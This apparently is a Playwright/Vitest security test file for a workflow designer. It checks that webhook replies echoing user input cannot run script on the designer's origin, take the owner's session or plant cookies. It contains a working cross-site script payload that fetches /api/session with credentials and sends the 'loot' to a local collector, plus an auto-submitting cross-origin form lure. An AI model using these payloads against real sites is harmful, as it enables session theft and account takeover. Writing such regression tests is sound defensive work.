// The takeover of an account through a workflow's reply: a page of another site makes the owner's browser call a trigger URL
// whose flow writes what it was given into its reply. On one origin nothing runs; on an origin of its own it reaches nothing.

import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import { type AddressInfo, createServer as createTcpServer } from 'node:net';
import type { BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { type Designer, OWNER, prepareDesigner } from './designer.ts';

const XHTML = '<html xmlns="http://www.w3.org/1999/xhtml"><body>{{$context.query.name}}</body></html>';
const RENDERED: readonly (readonly [type: string, body: string])[] = [
  ['text/html', '<!doctype html><h1>Hello {{$context.query.name}}</h1>'],
  ['text/html; charset=utf-8', '<!doctype html><h1>Hello {{$context.query.name}}</h1>'],
  ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg">{{$context.query.name}}</svg>'],
  ['application/xhtml+xml', XHTML],
  ['text/xml', XHTML],
  ['application/xml', XHTML],
];
/** What a browser that guesses would take for a page. */
const GUESSED: readonly (readonly [type: string, body: string])[] = [
  ['', '<!doctype html><h1>Hello {{$context.query.name}}</h1>'],
  ['text/plain', '<!doctype html><h1>Hello {{$context.query.name}}</h1>'],
  ['application/unknown', '<!doctype html><h1>Hello {{$context.query.name}}</h1>'],
];

/** What the scripts have sent home: `ran`, and then `loot` or `failed` with what they have got. */
const sent: string[] = [];
let site: Server;
let port: number;

beforeAll(async () => {
  site = createServer((req, res) => {
    const url = new URL(req.url ?? '', 'http://site');
    if (url.pathname !== '/') {
      sent.push(url.pathname.slice(1) + url.search);
      res.writeHead(200, { 'Content-Type': 'image/svg+xml', 'Access-Control-Allow-Origin': '*' });
      res.end('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>');
      return;
    }
    const target = (url.searchParams.get('target') ?? '').replaceAll('&', '&amp;').replaceAll('"', '&quot;');
    res.writeHead(200, { 'Content-Type': 'text/html' });
    res.end(`<form method="post" action="${target}"></form><script>document.forms[0].submit()</script>`);
  }).listen(0, '127.0.0.1');
  await once(site, 'listening');
  ({ port } = site.address() as AddressInfo);
});
afterAll(async () => {
  site.closeAllConnections();
  site.close();
  await once(site, 'close');
});
beforeEach(() => {
  sent.length = 0;
});

/** Without `<` and `&`, so that it is XML, too. It reads the session and sends it home. */
const script = (designerUrl: string): string => `<script>
  var home = 'http://127.0.0.1:${port}/';
  new Image().src = home + 'ran';
  try { document.cookie = 'hookline_session=${'x'.repeat(43)}; path=/api'; } catch (error) { new Image().src = home + 'no-cookies'; }
  fetch('${designerUrl}/api/session', { credentials: 'include' }).then(function (reply) { return reply.text(); }).then(
    function (text) { new Image().src = home + 'loot?' + encodeURIComponent(text); },
    function () { new Image().src = home + 'failed'; }
  );
</script>`;

async function makeFlow({ server }: Designer, config: object): Promise<string> {
  const { hookUrl } = await server.api('POST', '/api/workflows', {
    title: 'Greeting',
    mode: 'sync',
    enabled: true,
    trigger: { type: 'webhook', config: {} },
    nodes: [{ key: 'answer', type: 'response', config }],
  });
  return hookUrl;
}

/** The owner's browser, with a session that is good for the API. */
async function signIn(designer: Designer): Promise<BrowserContext> {
  const { context } = await designer.signedIn();
  context.setDefaultTimeout(30_000);
  const session = await (await context.request.get(`${designer.server.url}/api/session`)).json();
  expect(session).toMatchObject({ user: { email: OWNER.email }, csrfToken: expect.any(String) });
  return context;
}

interface Lure {
  /** Without its query. */
  readonly hookUrl: string;
  readonly query?: Readonly<Record<string, string>>;
  /** The host name of the other site; one of the same site as the designer makes the browser send the cookie. */
  readonly host?: string;
}

/**
 * Opens the page of the other site, which posts a form to the trigger URL, and stays until the reply has been shown, with all
 * that a script in it has begun, or kept as a file.
 * @returns the body of the reply
 */
async function beLured(context: BrowserContext, { hookUrl, query = {}, host = 'localhost' }: Lure): Promise<string> {
  const target = `${hookUrl}?${new URLSearchParams(query)}`;
  const page = await context.newPage();
  const isReply = (url: string): boolean => url.startsWith(hookUrl);
  const arrived = page.waitForResponse((reply) => isReply(reply.url()));
  const settled = Promise.race([
    page.waitForEvent('framenavigated', (frame) => isReply(frame.url())).then(() => page.waitForLoadState('load')),
    page.waitForEvent('download'),
  ]);
  // The page submits its form while it loads, so that its own load may never end.
  await page.goto(`http://${host}:${port}/?${new URLSearchParams({ target })}`, { waitUntil: 'commit' });
  const reply = await arrived;
  expect(reply.status()).toBe(200);
  await settled;
  // What became a file has no body in the browser: the same call gives the same reply.
  const text = await reply.text().catch(async () => (await fetch(target, { method: 'POST' })).text());
  await page.close();
  return text;
}

const sessionCookies = async (context: BrowserContext) =>
  (await context.cookies()).filter(({ name }) => name.includes('hookline')).map(({ name, path, value }) => [name, path, value]);

describe('on the origin of the designer', () => {
  const designer = prepareDesigner();

  test.each([...RENDERED, ...GUESSED])('a reply of the type %j runs no script', async (type, body) => {
    const context = await signIn(designer);
    const hookUrl = await makeFlow(designer, { headers: [{ name: 'Content-Type', value: type }], body });
    const before = await sessionCookies(context);
    const query = { name: script(designer.server.url) };
    expect(await beLured(context, { hookUrl, query })).toContain('<script>');
    expect(sent).toEqual([]);
    expect(await sessionCookies(context)).toEqual(before);
  });

  test('a page may look like one: styles and pictures work', async () => {
    const { context } = await designer.visitor();
    const body = `<!doctype html><style>h1 { color: rgb(1, 2, 3) }</style><h1>Thanks</h1><img src="http://127.0.0.1:${port}/picture" alt="">`;
    const hookUrl = await makeFlow(designer, { headers: [{ name: 'Content-Type', value: 'text/html' }], body });
    await beLured(context, { hookUrl });
    expect(sent).toEqual(['picture']);
  });

  test.each([
    'hookline_session={{$context.query.secret}}',
    '{{$context.query.name}}={{$context.query.secret}}; Path=/',
    '{{$context.query.cookie}}',
  ])('a reply cannot sign its visitor in as somebody else: %s', async (value) => {
    const config = {
      status: 302,
      headers: [
        { name: 'Set-Cookie', value },
        { name: 'Location', value: '/designer/' },
      ],
    };
    if (!value.startsWith('{{$context.query.name')) {
      await expect(makeFlow(designer, config)).rejects.toThrow(/422.*cookie_not_allowed/);
      return;
    }
    const editor = await designer.signedIn();
    const [stolen] = await editor.context.cookies();
    const visitor = await designer.visitor();
    visitor.context.setDefaultTimeout(30_000);
    const hookUrl = await makeFlow(designer, config);
    for (const name of ['hookline_session', ' HOOKLINE_SESSION ', '']) {
      const query = new URLSearchParams({
        name,
        secret: name === '' ? `hookline_session=${stolen?.value}` : (stolen?.value ?? ''),
      });
      const page = await visitor.context.newPage();
      await page.goto(`http://localhost:${port}/?${new URLSearchParams({ target: `${hookUrl}?${query}` })}`, {
        waitUntil: 'commit',
      });
      await page.waitForURL(/\/designer\//, { waitUntil: 'commit' });
      const session = await (await visitor.context.request.get(`${designer.server.url}/api/session`)).json();
      expect(session.user).toBeNull();
      expect(await sessionCookies(visitor.context)).toEqual([]);
      await page.close();
    }
  });
});

describe('on an origin of their own', () => {
  const designer = prepareDesigner({ env: { HOOKLINE_HOOKS_PORT: '0' } });

  test.each(RENDERED)('a script in a reply of the type %j runs and reaches nothing', async (type, body) => {
    const context = await signIn(designer);
    const hookUrl = await makeFlow(designer, { headers: [{ name: 'Content-Type', value: type }], body });
    expect(new URL(hookUrl).origin).not.toBe(designer.server.url);
    const before = await sessionCookies(context);
    for (const host of ['localhost', '127.0.0.1']) {
      sent.length = 0;
      await beLured(context, { hookUrl, query: { name: script(designer.server.url) }, host });
      await expect.poll(() => sent).toContain('failed');
      expect([...sent].sort()).toEqual(['failed', 'no-cookies', 'ran']);
    }
    expect(await sessionCookies(context)).toEqual(before);
  });

  test.each(GUESSED)('a reply of the type %j is not guessed to be a page', async (type, body) => {
    const context = await signIn(designer);
    const hookUrl = await makeFlow(designer, { headers: [{ name: 'Content-Type', value: type }], body });
    const query = { name: script(designer.server.url) };
    expect(await beLured(context, { hookUrl, query })).toContain('<script>');
    expect(sent).toEqual([]);
  });

  test('the designer and the API do not exist there, and the cookie that comes along is not seen', async () => {
    const context = await signIn(designer);
    const hookUrl = await makeFlow(designer, { body: { cookie: '{{$request.headers.cookie}}' } });
    // Of the same site, so that the browser sends the cookie: it does not look at ports.
    expect(JSON.parse(await beLured(context, { hookUrl, host: '127.0.0.1' }))).toEqual({ cookie: null });
    const { origin } = new URL(hookUrl);
    for (const path of ['/designer/', '/api/session']) {
      expect((await context.request.get(origin + path)).status()).toBe(404);
    }
    const path = new URL(hookUrl).pathname;
    expect((await context.request.post(designer.server.url + path)).status()).toBe(404);
  });
});

describe('on another host name', async () => {
  const own = await freePort();
  // Chromium takes each name under `localhost` to this machine.
  const hooks = `http://hooks.localhost:${own}`;
  const designer = prepareDesigner({ env: { HOOKLINE_PORT: String(own), HOOKLINE_HOOKS_URL: hooks } });

  test.each(RENDERED)(
    'a script in a reply of the type %j runs as a page of that host and reaches nothing',
    async (type, body) => {
      const context = await signIn(designer);
      const hookUrl = await makeFlow(designer, { headers: [{ name: 'Content-Type', value: type }], body });
      expect(new URL(hookUrl).origin).toBe(hooks);
      const before = await sessionCookies(context);
      await beLured(context, { hookUrl, query: { name: script(designer.server.url) } });
      await expect.poll(() => sent).toContain('failed');
      // It has an origin of its own, where it may keep cookies, and these stay there.
      expect([...sent].sort()).toEqual(['failed', 'ran']);
      const after = await context.cookies(designer.server.url);
      expect(after.filter(({ name }) => name.includes('hookline')).map(({ name, path, value }) => [name, path, value])).toEqual(
        before,
      );
    },
  );

  test('the designer and the API do not exist there', async () => {
    const { context } = await designer.visitor();
    // The page of a visitor must not meet a 404.
    const page = await context.newPage();
    const hookUrl = await makeFlow(designer, { headers: [{ name: 'Content-Type', value: 'text/html' }], body: '<p>A page</p>' });
    for (const path of ['/designer/', '/api/session', '/metrics']) {
      expect((await page.goto(hooks + path))?.status(), path).toBe(404);
    }
    // And the designer's host has no trigger URLs.
    expect((await context.request.post(designer.server.url + new URL(hookUrl).pathname)).status()).toBe(404);
  });
});

async function freePort(): Promise<number> {
  const probe = createTcpServer().listen(0, '127.0.0.1');
  await once(probe, 'listening');
  const { port: free } = probe.address() as AddressInfo;
  probe.close();
  await once(probe, 'close');
  return free;
}
